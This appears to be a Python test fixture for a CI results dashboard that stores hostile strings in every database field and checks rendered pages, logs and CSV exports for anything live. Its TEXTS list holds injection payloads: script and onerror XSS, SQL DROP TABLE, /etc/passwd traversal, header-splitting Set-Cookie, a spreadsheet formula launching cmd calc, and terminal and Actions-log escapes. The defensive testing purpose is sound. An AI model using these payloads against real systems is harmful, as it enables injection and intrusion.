"""Hostile texts, a database that has them in every field, and what of an output would be live."""

import csv
import io
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

from sqlalchemy import update

from harness.cells import Cell, Variant
from harness.results import ComponentResult, Outcome, OutputDifference, Result, Stage
from runner.core.bisect import Bisected
from runner.core.label import label
from runner.core.plain import storable
from runner.core.pull.quoting import quoted
from runner.core.pull.report import Commits
from runner.core.runs import Canary, Progress, RunningCell
from runner.core.selfcheck import Figure, Selfcheck
from runner.store import queue, sessions, tables, tokens, writes
from runner.store.bisects import note_bisect
from runner.store.engine import Engine
from runner.store.pulls import PullRuns, note_runs
from runner.store.selfchecks import note_selfcheck
from runner.store.subscriptions import subscribe

MARK = "h0st1le"
TEXTS = (
    f"<script>{MARK}()</script>\"'><img src=x onerror={MARK}()>",
    f"javascript:{MARK}()//%0d%0aSet-Cookie: a={MARK}",
    f"'; DROP TABLE run; -- {MARK}",
    f"../../../../etc/passwd\0{MARK}",
    f"{{{{ 7 * 7 }}}} {{% raw %}} ]]> --> {MARK}",
    f"=HYPERLINK(\"https://evil.example/?{MARK}\");=1+1\t@SUM(1)\r\n-1+cmd|' /C calc'!A0",
    f"//evil.example/{MARK}\r\nSet-Cookie: a={MARK}\r\n\r\n<b>{MARK}",
    f"** [{MARK}](javascript:{MARK}()) ![x](https://evil.example/x.png) ``` @everyone o/r#1 <!-- x",
    f"\u202e{MARK}\u2066\u200f half \ud800 \x1b[31m\x07\x1b]8;;https://evil.example\x07 \x9b31m",
    f"\n::add-mask::{MARK}\n  ::set-output name=a::{MARK}\r##[error]{MARK}\n%0A::stop-commands::x",
    MARK + "\u0130" * 20_000,
)
CELL = Cell("bert", "BertModel", Variant.FORWARD_STATIC, "onnx")
#: what steers a terminal, or reverses what follows: no output for readers has it
STEERING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@dataclass(frozen=True, slots=True, kw_only=True)
class Stored:
    """What is about one text."""

    text: str
    #: uids of its runs: in one all passes, in the next nothing, the last goes on
    before: str
    after: str
    open: str
    pull: PullRuns


def store(engine: Engine) -> Sequence[Stored]:
    """Every field that others write, once with each text."""
    return [_store(engine, number, text) for number, text in enumerate(TEXTS, 1)]


def _store(engine: Engine, number: int, text: str) -> Stored:
    clean = storable(text)[:150]
    names = [f"{number}-{name}-{clean}" for name in ("before", "after", "open")]
    before, after, opened = names
    for uid in names:
        _begin(engine, uid, clean)
    other = replace(CELL, backend="dynamo")
    passed = _result(text, Outcome.PASS)
    _end(engine, before, clean, [passed, passed.replace(cell=other)])
    skipped = _result(text, Outcome.SKIP).replace(cell=other)
    _end(engine, after, clean, [_result(text, Outcome.FAIL), skipped])
    commits = Commits(run="a" * 40, head=f"{number:040}", base="b" * 40, base_branch=clean)
    pull = PullRuns(
        repository=clean,
        number=number,
        commits=commits,
        scope=quoted(clean),
        baseline_run=before,
        head_run=after,
    )
    note_runs(engine, pull)
    _operate(engine, opened, clean)
    _say(engine, clean)
    return Stored(text=text, before=before, after=after, open=opened, pull=pull)


def _begin(engine: Engine, uid: str, clean: str) -> None:
    writes.open_run(
        engine,
        uid=uid,
        revision=clean,
        branch=clean,
        stack={"torch": clean, clean: clean},
        selection=clean,
        started_at=datetime.now(UTC),
        cells=[CELL, replace(CELL, backend="dynamo")],
    )


def _end(engine: Engine, uid: str, clean: str, results: Sequence[Result]) -> None:
    stack = {"torch": clean, clean: clean}
    named = (each.replace(run=uid, revision=clean, stack=stack) for each in results)
    writes.ingest_results(engine, map(label, named))
    writes.note_canary(engine, uid, Canary(differ={clean: clean}, not_compared={clean: clean}))
    audit = {"carried": 1, "audited": 1, "missed": [clean]}
    with engine.begin() as connection:
        connection.execute(update(tables.run).where(tables.run.c.uid == uid).values(audit=audit))
    writes.close_run(engine, uid, closed_at=datetime.now(UTC), duration_s=1.0)


def _result(text: str, outcome: Outcome) -> Result:
    difference = OutputDifference(name=text, sizes=text, dtype=text, problem="values")
    failed = outcome is Outcome.FAIL
    part = ComponentResult(
        name=text,
        outcome=outcome,
        stage=Stage.LOWER if failed else None,
        reason=text,
        outputs=(difference,),
        notes=(text,),
        patches=(text,),
    )
    return Result(
        cell=CELL,
        outcome=outcome,
        stage=Stage.LOWER if failed else None,
        reason=None if outcome is Outcome.PASS else text,
        components=() if outcome is Outcome.SKIP else (part,),
        durations_s={"build": 0.1, "lower": 2.0},
        traceback=f'Traceback:\n  File "{text}", line 1, in {text}\nValueError: {text}'
        if failed
        else None,
        log_tail=text,
        provider="transformers",
        recipe={text: text},
    )


def _operate(engine: Engine, uid: str, clean: str) -> None:
    """What machines, and who operates them, write."""
    running = RunningCell(cell=clean, attempt=1, stage=None, seconds=3.0)
    told = Progress(done=1, expected=2, verdicts={}, running=(running,), at=datetime.now(UTC))
    writes.note_progress(engine, uid, clean, told)
    with engine.begin() as connection:
        queue.enqueue(connection, kind="pull", key=clean, payload={}, author=clean[:100])
    taken = queue.take(engine, clean)
    assert taken is not None
    queue.end(engine, taken, state="failed", error=clean)
    tokens.create_token(engine, clean[:100], clean)
    sessions.begin(engine, clean[:100], [clean], lasts=timedelta(days=1))
    figure = Figure(planted=clean, loud=1, false_alarms=(clean,), misses=(clean,))
    note_selfcheck(
        engine,
        Selfcheck(
            revision="5.23.0", stack={clean: clean}, ended_at=datetime.now(UTC), figures=(figure,)
        ),
    )
    note_bisect(
        engine,
        Bisected(
            cell=CELL,
            good=clean,
            bad=clean,
            stack={clean: clean},
            names=(clean,),
            told=(clean,),
            title=clean,
            ended_at=datetime.now(UTC),
        ),
    )


def _say(engine: Engine, clean: str) -> None:
    """What people say: older rules may have let in what today's refuse."""
    subscribe(engine, clean, clean, by=clean)
    group = tables.failure_group.c
    said = {
        "state": "known",
        "assignee": clean[:100],
        "issue": "https://evil.example/" + re.sub(r"\s", "", clean),
        "note": clean,
        "muted_until": "2999-01-01",
        "fixed_in": clean[:60],
        "version": 1,
        "changed_at": datetime.now(UTC),
        "changed_by": clean[:100],
    }
    changed = {name: said[name] for name in ("state", "assignee", "issue", "note", "muted_until")}
    with engine.begin() as connection:
        newest = tables.failure_group.select().order_by(group.id.desc()).limit(1)
        found = connection.execute(newest).one()
        connection.execute(tables.triage.insert().values(group_id=found.id, **said))
        entry = {
            "group_id": found.id,
            "signature": found.signature,
            "at": datetime.now(UTC),
            "who": clean[:100],
            "action": "edit",
            "before": changed,
            "after": changed | {clean: clean},
            "cells": clean,
        }
        connection.execute(tables.triage_log.insert().values(**entry))


#: what GitHub Actions would execute in a log
COMMAND = re.compile(r"(?m)^\s*::|##\[")


class _Live(HTMLParser):
    """Finds what a browser would execute, load or go to that is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        data = tag == "script" and given.get("type") == "application/json"
        if tag in ("script", "link", "img", "image", "use") and not data:
            loaded = given.get("src") or given.get("href") or given.get("xlink:href", "")
            if not re.match(r"/(static/|badges/|feed\.xml|[^/\s][^\s]*\.json)|#", loaded):
                self.found.append(f"{tag} {given}")
        if tag in ("iframe", "object", "embed", "base", "style", "math", "foreignobject"):
            self.found.append(tag)
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            self.found += [] if given["content"].isdecimal() else [f"meta {given}"]
        if tag in ("form", "button") and not re.match(r"/(?!/)|$", given.get("action", "")):
            self.found.append(f"form {given}")
        self.found += [
            f"{tag} {name}"
            for name in given
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping")
        ]
        self.found += [f"{tag} {MARK}"] * (MARK in tag or any(MARK in name for name in given))
        for name in ("href", "xlink:href"):
            if name in given and not safe_link(given[name]):
                self.found.append(f"{tag} {name} {given[name]}")


def safe_link(address: str) -> bool:
    """Whether a link goes to a page of ours, or openly elsewhere."""
    return bool(re.match(r"https?://|mailto:|[#?]|/(?![/\\])|$", address))


def live(page: str) -> list[str]:
    """What of a page, or a picture, is live or hidden that was not meant to be."""
    parser = _Live()
    parser.feed(page)
    return parser.found + [f"{found!r}" for found in STEERING.findall(page)[:1]]


def formulas(table: str) -> Iterator[str]:
    """The cells that a spreadsheet would compute, at whichever sign it takes lines apart."""
    for sign in ",;\t":
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=sign):
            yield from (
                cell for cell in row if cell[:1] in (*"=+-@\t\r\n\uff1d",) and not _number(cell)
            )


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell))
